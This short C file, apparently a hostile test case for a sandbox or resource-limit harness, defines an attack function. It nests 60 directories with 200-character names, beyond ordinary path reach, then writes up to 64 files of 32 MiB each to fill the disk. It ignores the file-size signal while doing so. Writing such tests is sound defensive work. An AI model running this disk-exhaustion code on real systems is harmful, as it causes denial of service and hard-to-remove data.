// Fills the disk below folders that are so deep that no path leads there.
#include "hostile.h"

static void attack(void) {
    static char bytes[1 << 20];
    char name[201];
    memset(name, 'd', 200);
    name[200] = 0;
    signal(SIGXFSZ, SIG_IGN);
    for (int depth = 0; depth < 60; depth++) {
        if (mkdir(name, 0755) != 0 || chdir(name) != 0) return;
    }
    for (int number = 0; number < 64; number++) {
        snprintf(name, sizeof name, "large%d", number);
        int file = open(name, O_WRONLY | O_CREAT, 0644);
        for (int i = 0; i < 32; i++) {
            if (write(file, bytes, sizeof bytes) <= 0) return;
        }
        close(file);
    }
    wait_for_the_limit();
}
